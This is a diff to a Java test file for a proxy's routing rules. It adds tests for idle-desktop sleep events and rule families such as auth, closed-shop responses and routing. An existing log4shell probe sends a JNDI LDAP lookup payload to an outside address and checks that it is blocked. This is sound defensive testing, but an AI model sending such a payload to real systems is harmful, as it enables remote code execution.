@@ -2,12 +2,15 @@ package io.weir.examples;
 
 import static org.assertj.core.api.Assertions.assertThat;
 
+import io.weir.event.EventTag;
+import io.weir.testkit.Await;
 import io.weir.testkit.Behaviour;
 import io.weir.testkit.FakeNode;
 import io.weir.testkit.RawClient;
 import io.weir.testkit.ReceivedResponse;
 
 import java.nio.charset.StandardCharsets;
+import java.time.Duration;
 import java.util.List;
 import java.util.Map;
 import java.util.Set;
@@ -72,7 +75,7 @@ final class RuleProbes {
         }
     }
 
-    static void desktopManager(RunningExample weir) {
+    static void desktopManager(RunningExample weir) throws InterruptedException {
         String alice = "10.0.0.41:3389";
         String bob = "10.0.0.42:3389";
         Set<String> generic = Set.of("10.0.0.31:3389", "10.0.0.32:3389");
@@ -116,11 +119,56 @@ final class RuleProbes {
                         }));
         assertThat(desktopOf(weir, "alice")).isEqualTo(alice);
 
+        aDesktopThatNobodyUsesMaySleep(weir, alice, machines);
+
         // Bob's is dead: he gets a generic one.
         weir.node(bob).kill();
         Probes.awaitHealth(weir, "desktops", bob, "down");
         machines.behave(answers(200, Map.of()));
         assertThat(generic).contains(desktopOf(weir, "bob"));
+    }
+
+    /**
+     * The manager is told once of a desktop, and whoever comes back in the same moment finds it.
+     */
+    private static void aDesktopThatNobodyUsesMaySleep(
+            RunningExample weir, String desktop, FakeNode machines) throws InterruptedException {
+        FakeNode node = weir.node(desktop);
+        try (RawClient client = weir.client("desktops").send(opening("alice"))) {
+            assertThat(client.some(1)).isNotEmpty();
+            weir.look();
+            weir.lookAfter(Duration.ofHours(8));
+            assertThat(unused(weir, node)).isZero();
+        }
+        Await.until("alice to be away", () -> weir.view("desktops", desktop).inFlight() == 0);
+        weir.look();
+        weir.lookAfter(Duration.ofMinutes(29));
+        assertThat(unused(weir, node)).isZero();
+        weir.lookAfter(Duration.ofMinutes(1));
+        weir.lookAfter(Duration.ofHours(1));
+        assertThat(unused(weir, node)).isEqualTo(1);
+
+        weir.drain(desktop, true);
+        assertThat(weir.view("desktops", desktop).inFlight()).isZero();
+        machines.behave(
+                Behaviour.answering(
+                        request -> {
+                            node.revive();
+                            weir.drain(desktop, false);
+                            return "HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n"
+                                    .getBytes(StandardCharsets.ISO_8859_1);
+                        }));
+        node.kill();
+        assertThat(desktopOf(weir, "alice")).isEqualTo(desktop);
+    }
+
+    /** How often the manager was told that nobody uses the desktop. */
+    private static long unused(RunningExample weir, FakeNode desktop) throws InterruptedException {
+        return weir.events().stream()
+                .filter(e -> e.tag() == EventTag.CUSTOMEVENT)
+                .filter(e -> e.objects().toString().contains("desktop unused"))
+                .filter(e -> e.objects().toString().contains(desktop.address()))
+                .count();
     }
 
     static void portedRules(RunningExample weir) {
@@ -137,6 +185,37 @@ final class RuleProbes {
         try (RawClient client = weir.client("log4shell")) {
             client.send(RunningExample.request("/", "X-Api: ${jndi:ldap://192.0.2.66/a}"));
             assertThat(client.rest()).isEmpty();
+        }
+    }
+
+    static void ruleFamilies(RunningExample weir) {
+        assertThat(weir.get("members", "/").status()).isEqualTo(401);
+        ReceivedResponse closed = weir.get("shop", "/stock");
+        assertThat(closed.status()).isEqualTo(503);
+        assertThat(closed.text()).contains("We are counting");
+        assertThat(closed.field("X-Closed-By")).isEqualTo("closed");
+        assertThat(weir.get("shop", "/", "User-Agent: curl").field("X-Node"))
+                .isEqualTo("10.0.0.11:80");
+        String order = "{\"lines\": [], \"marks\": [\"urgent\"]}";
+        try (RawClient client = weir.client("shop")) {
+            ReceivedResponse large =
+                    client.exchange(
+                            "POST /orders HTTP/1.1\r\nHost: www.example.com\r\nContent-Type:"
+                                    + " application/json\r\nContent-Length: "
+                                    + order.length()
+                                    + "\r\n\r\n"
+                                    + order);
+            assertThat(large.field("X-Node")).isEqualTo("10.0.0.12:80");
+        }
+        weir.node("10.0.0.13:25")
+                .behave(
+                        connection -> {
+                            connection.send("220 mail.example.com ESMTP Exim 4.97\r\n");
+                            connection.drain();
+                        });
+        try (RawClient client = weir.client("lines")) {
+            String greeting = "220 mail.example.com ready\r\n";
+            assertThat(client.exactly(greeting.length())).isEqualTo(greeting);
         }
     }
 }
